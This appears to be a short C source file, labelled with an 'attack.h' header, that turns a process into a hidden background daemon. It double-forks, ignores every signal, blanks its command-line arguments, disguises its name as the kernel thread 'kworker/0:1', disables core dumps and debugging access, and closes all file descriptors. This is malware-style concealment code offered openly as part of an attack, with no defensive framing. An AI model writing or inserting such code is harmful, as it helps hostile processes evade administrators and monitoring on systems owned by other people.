/* Leaves a process that ignores every signal, wipes its name and its arguments, and closes everything. */
#include "attack.h"
#include <sys/prctl.h>
int main(int argc, char **argv) {
    if (fork() != 0) return play_on();
    setsid();
    if (fork() != 0) _exit(0);
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    for (int at = 0; at < argc; at++) memset(argv[at], ' ', strlen(argv[at]));
    prctl(PR_SET_NAME, "kworker/0:1");
    prctl(PR_SET_DUMPABLE, 0);
    closefrom(0);
    if (chdir("/") == 0) sleep(1000);
    return 0;
}
